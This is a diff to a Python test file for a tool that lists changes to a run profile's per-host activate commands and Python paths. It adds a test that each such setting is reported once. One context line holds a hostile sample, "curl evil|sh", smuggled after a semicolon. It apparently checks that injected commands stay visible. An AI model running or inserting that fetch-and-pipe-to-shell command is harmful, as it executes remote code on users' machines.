@@ -409,6 +409,23 @@ def test_a_change_behind_a_thousand_characters_is_shown() -> None:
     assert changes(before, now)[1].endswith("x ;curl evil|sh'")
 
 
+def test_what_runs_is_said_once_also_where_the_profile_says_it_for_a_host() -> None:
+    line, path = "source v/bin/activate", "~/v/bin/python"
+    hosts = ["a", {"host": "b", "activate": "module load cuda", "python": path}]
+    now = profile(hosts=hosts, activate=line)
+    lines = changes(None, now)
+    assert [one for one in lines if "activate" in one or "python" in one] == [
+        f"+ python: on b, already for a plan: {path}",
+        f"+ activate: on a, already for a plan: {line}",
+        "+ activate: on b, already for a plan: module load cuda",
+    ]
+    moved = profile(hosts=[{"host": "a", "activate": line}, hosts[1]])
+    both = {f"- activate: {line}", f"+ hosts.a.activate: {line}"}
+    assert {*changes(now, moved)} == both, "the same runs, said in another place"
+    unused = changes(None, profile(hosts=[{"host": "a", "activate": "true"}], activate=line, python="python3.11"))
+    assert {f"+ activate: {line}", "+ python: python3.11"} <= {*unused}, "what runs nowhere is shown as written"
+
+
 def test_no_number_of_other_lines_hides_what_runs() -> None:
     hosts = [{"host": f"n{number}", "python": f"/opt/{number}/bin/python"} for number in range(300)]
     env = {f"A{number}": "1" for number in range(500)}
